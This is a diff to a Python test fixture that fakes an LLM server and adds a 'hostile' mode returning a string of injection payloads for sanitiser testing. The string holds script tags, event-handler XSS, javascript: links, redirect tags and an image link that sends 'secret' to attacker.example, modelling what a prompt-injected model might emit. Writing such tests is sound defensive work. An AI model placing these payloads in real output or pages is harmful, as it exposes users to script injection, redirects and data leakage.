@@ -2,7 +2,7 @@
 JSON-schema response_format (answers are generated from the schema), records every request.
 
 `behaviour[model]` scripts a model: "ok" (default), "garbage" (prose, never JSON), "error"
-(HTTP 500 with an OpenAI-style error body).
+(HTTP 500 with an OpenAI-style error body), "hostile" (every string is HOSTILE_MARKDOWN).
 """
 
 from __future__ import annotations
@@ -11,6 +11,17 @@ import json
 import re
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+
+# Markdown/HTML a compromised or prompt-injected model might return (fault catalogue R4, R5, R9).
+HOSTILE_MARKDOWN = (
+    "Intro <script>window.__pwned=1</script> <iframe src=https://evil.example></iframe> "
+    "<details open ontoggle=alert(1)>x</details> [js](javascript:alert(1)) [data](data:text/html,x) "
+    "![pixel](https://attacker.example/?q=secret) <!-- comment --> <style>body{display:none}</style> "
+    "<base href=https://evil.example/> <meta http-equiv=refresh content=0;url=https://evil.example> "
+    '[t](https://ok.example "a\" onmouseover=\"alert(1)") <b>unbalanced </section></main> <!-- open '
+    "[rel](/admin) [proto](//evil.example/x) [anchor](#top) <think>hidden plan</think> **fine**"
+)
 
 
 def _resolve(schema: dict, root: dict) -> dict:
@@ -29,16 +40,18 @@ def _topic_plan(prompt: str) -> dict:
     ]}
 
 
-def instance(schema: dict, root: dict, prompt: str, name: str = "") -> object:
-    """A value valid for `schema`, with strings that quote the prompt's title line."""
+def instance(schema: dict, root: dict, prompt: str, name: str = "", text: str | None = None) -> object:
+    """A value valid for `schema`, with strings that quote the prompt's title line (or `text`)."""
     schema = _resolve(schema, root)
     kind = schema.get("type")
     if kind == "object":
-        return {k: instance(v, root, prompt, k) for k, v in schema.get("properties", {}).items()}
+        return {k: instance(v, root, prompt, k, text) for k, v in schema.get("properties", {}).items()}
     if kind == "array":
-        return [instance(schema["items"], root, prompt, name) for _ in range(2)]
+        return [instance(schema["items"], root, prompt, name, text) for _ in range(2)]
     if kind == "integer":
         return 1
+    if text is not None:
+        return text
     title = re.search(r"^Title: (.*)$", prompt, re.M)
     subject = title.group(1) if title else "today's AI news"
     return f"Fake {name or 'text'} about {subject}."
@@ -91,7 +104,7 @@ class FakeLLM:
         elif schema.get("title") == "TopicPlan":
             content = json.dumps(_topic_plan(prompt))
         else:
-            content = json.dumps(instance(schema, schema, prompt))
+            content = json.dumps(instance(schema, schema, prompt, text=HOSTILE_MARKDOWN if mode == "hostile" else None))
         return 200, {
             "id": f"chatcmpl-{len(self.requests)}", "object": "chat.completion", "created": 0, "model": model,
             "choices": [{"index": 0, "finish_reason": "stop",
